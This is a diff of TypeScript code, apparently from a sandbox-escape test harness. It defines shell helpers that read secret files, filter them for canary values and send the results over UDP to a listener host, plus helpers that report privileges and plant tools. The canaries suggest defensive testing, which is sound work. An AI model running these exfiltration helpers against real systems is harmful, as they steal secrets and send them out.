@@ -4,12 +4,13 @@
  */
 
 import { quoted } from '../../contextualization/shell.ts'
-import type { Payload, Scene } from './attack.ts'
+import { defaultWallMs, type Payload, type Scene, sh } from './attack.ts'
 import { canaryPattern } from './canaries.ts'
-import { sh } from './attack.ts'
 
 /** What code of an attack needs to know, as variables of its environment. */
-export function knowledge(scene: Scene): Readonly<Record<string, string>> {
+export function knowledge(
+  scene: Pick<Scene, 'marker' | 'listener' | 'port' | 'secretFiles'>,
+): Readonly<Record<string, string>> {
   return {
     HOSTILE_MARK: scene.marker,
     HOSTILE_HOST: scene.listener,
@@ -21,9 +22,9 @@ export function knowledge(scene: Scene): Readonly<Record<string, string>> {
 /** Shell: `canaries` filters, `say` sends a line, `who` prints how it runs, `loot FILE...` prints what is found. */
 export const shellWords = `
 canaries() { grep -aoE '${canaryPattern}' 2>/dev/null | sort -u; }
-say() { /usr/bin/perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "$ENV{HOSTILE_HOST}:$ENV{HOSTILE_PORT}"); $s->send("$ENV{HOSTILE_MARK} " . join(" ", @ARGV))' "$@" 2>/dev/null; }
+say() { /usr/bin/perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); send(S, "$ENV{HOSTILE_MARK} " . join(" ", @ARGV), 0, pack_sockaddr_in($ENV{HOSTILE_PORT}, inet_aton($ENV{HOSTILE_HOST})))' "$@" 2>/dev/null; }
 who() { echo "RAN uid=$(id -u) caps=$(sed -n 's/^CapEff:[^0-9a-f]*//p' /proc/self/status) pidns=$(readlink /proc/self/ns/pid)"; }
-loot() { for file in "$@"; do timeout 2 head -c 300000 "$file" 2>/dev/null | canaries; done; }
+loot() { for file in "$@"; do [ -e "$file" ] || continue; timeout 2 head -c 300000 "$file" 2>/dev/null | canaries; done; }
 secrets() { printf '%s' "$HOSTILE_LOOT" | tr ':' '\\n'; }
 plunder() { for file in $(secrets); do loot "$file"; done; }
 `
@@ -55,13 +56,28 @@ who
 plunder
 `
 
+/** What a script waits for, in seconds, and gives up after, as shell, Perl and Python write it. */
+const waits =
+  /(\bselect undef, undef, undef, |\bsleep[ (]|\btime(?:\.time\(\))? \+ |\btimeout |\balarm |\bTimeout => )(\d+(?:\.\d+)?)/g
+
+/** The same payload for a machine that is so many times slower: whatever it does in a time, it has the time for. */
+export function slowed(payload: Payload, slowness: number): Payload {
+  const { wallMs = defaultWallMs } = payload
+  const longer = (text: string): string =>
+    text.replace(waits, (_, before: string, seconds: string) => before + Number((Number(seconds) * slowness).toFixed(3)))
+  return { ...payload, arguments: payload.arguments.map(longer), wallMs: wallMs * slowness }
+}
+
 /** What a starter of payloads may call by name alone. */
 const names =
   'sh bash dash env setpriv perl python3 node bwrap unshare mount umount id cat prlimit timeout nice setsid chroot newuidmap newgidmap systemd-run nsenter sudo su rm chmod chown kill mkdir true'
 /** What these load by name alone. */
 const libraries = 'libcap-ng.so.0 libcap.so.2 libselinux.so.1 libpcre2-8.so.0 libcrypt.so.1 libdl.so.2 libpthread.so.0'
 
-/** The planter's script: it leaves tools in its home for every payload of the machine, and stays for `seconds`. */
+/**
+ * The planter's script: it leaves tools in its home for every payload of the machine, and stays for `seconds`. `library`: the
+ * probe in base64, or words of shell that stand for it.
+ */
 export function planterScript(library: string | undefined, seconds: number): string {
   const file = (path: string, text: string): string => `printf '%s' ${quoted(text)} >${path}`
   const lines = [
